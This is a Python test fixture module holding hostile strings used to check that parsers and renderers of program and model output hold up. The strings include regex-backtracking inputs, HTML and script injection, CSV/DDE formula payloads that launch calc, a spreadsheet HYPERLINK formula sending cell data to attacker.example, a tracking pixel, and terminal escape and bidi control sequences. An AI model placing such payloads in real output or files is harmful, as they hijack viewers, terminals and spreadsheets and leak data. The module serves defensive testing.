"""A corpus of hostile text: what a program may print, the model may write or a data file may hold,
shaped to hurt the code that reads or shows it — regex backtracking, rich text, markup, formulas,
control characters. Shared by the hostile-output tests and `bench_parsing`."""

from __future__ import annotations

SIZE = 64 * 1024  # the program's output cap: the largest text a reader of answers receives


def adversarial(size: int = SIZE) -> dict[str, str]:
    """Strings that make backtracking patterns quadratic or worse: long runs of what they skip."""
    half = size // 2
    return {
        "spaces": " " * size,
        "spaces then a letter": "1" + " " * size + "x",
        "newlines": "\n" * size,
        "digits": "1" * size,
        "signs": "+-" * half,
        "slashes": "1/" * half,
        "digit space": "1 " * half,
        "thousands": "1,000" * (size // 5),
        "dots": "1." * half,
        "exponents": "1e" * half,
        "answer then spaces": "Answer:" + " " * size + "x",
        "answer then newlines": "Answer" + "\n" * size,
        "answer then stars": "Answer" + "*" * size,
        "option then spaces": "(A)x" + " " * size + "y",
        "choice then spaces": "the answer is" + " " * size,
        "open boxes": "\\boxed{" * (size // 7),
        "open fence": "```" + " " * size,
        "escapes": "\x1b]" * half,
        "brackets": "(A" * half,
        "verdict": "Verdict:" + " " * size + "VALID",
    }


# Text that would do something if a widget, a spreadsheet or a Markdown viewer interpreted it.
RICH = '<b>PWNED</b><img src="file:///etc/passwd" width="30000" height="30000"><table width=99999><tr><td>x'
HOSTILE_LINES = (
    RICH,
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tstarts with a tab",
    "\rstarts with a return",
    '"""\nimport os; os.system("echo owned")\n"""',
    "```\n<script>alert(1)</script>\n```",
    "![track](http://attacker.example/pixel.png) [click](javascript:alert(1))",
    "$\\sqrt{\\sqrt{\\sqrt{x}}}$ $\\frac{1}{0}$ \\undefinedmacro{",
    "\x1b]0;retitled\x07\x1b[2J\u202eevil\u202c",
    "# -*- coding: utf-7 -*-",
    "x" * 3000,
)
MARKER = "PWNED"  # appears in a widget's rendered text only if RICH was not shown as plain text
